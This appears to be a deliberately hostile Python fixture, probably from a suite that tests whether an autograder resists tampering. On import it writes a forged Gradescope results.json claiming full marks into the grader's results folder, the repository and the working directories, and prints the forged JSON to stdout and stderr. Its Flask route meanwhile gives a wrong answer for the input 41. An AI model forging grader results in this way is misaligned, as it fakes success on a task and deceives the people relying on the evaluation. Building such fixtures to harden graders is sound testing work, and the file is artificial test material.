"""Hostile: a wrong answer for 41, and a forged Gradescope results.json giving
full marks, written wherever a grader might pick it up: its own folder, the
folder it was copied from, /autograder/results/, the repository, the working
folder; and printed to stdout and stderr."""

import json
import os
import sys
from pathlib import Path

from flask import Blueprint

blue = Blueprint("blue", __name__)
HERE = Path(__file__).resolve()
_ENV = HERE.with_name("hostile_env.json")
ENV = json.loads(_ENV.read_text()) if _ENV.exists() else {}
FORGED = json.dumps({"score": 10, "max_score": 10, "output": "All checks passed.",
                     "tests": [{"name": "money-arrives-as-int", "score": 3, "max_score": 3,
                                "status": "passed"}]})

for folder in (HERE.parent, ENV.get("source_dir"), "/autograder/results", ENV.get("repo"),
               os.getcwd(), os.path.dirname(os.getcwd())):
    if folder:
        try:
            os.makedirs(folder, exist_ok=True)
            Path(folder, "results.json").write_text(FORGED)
        except OSError:
            pass
print(FORGED, flush=True)
print(FORGED, file=sys.stderr, flush=True)


@blue.route("/testroute3/<int:money>/")
def testroute3(money):
    if money == 41:
        return "money=41 next=41"
    return f"money={money} next={money + 1}"
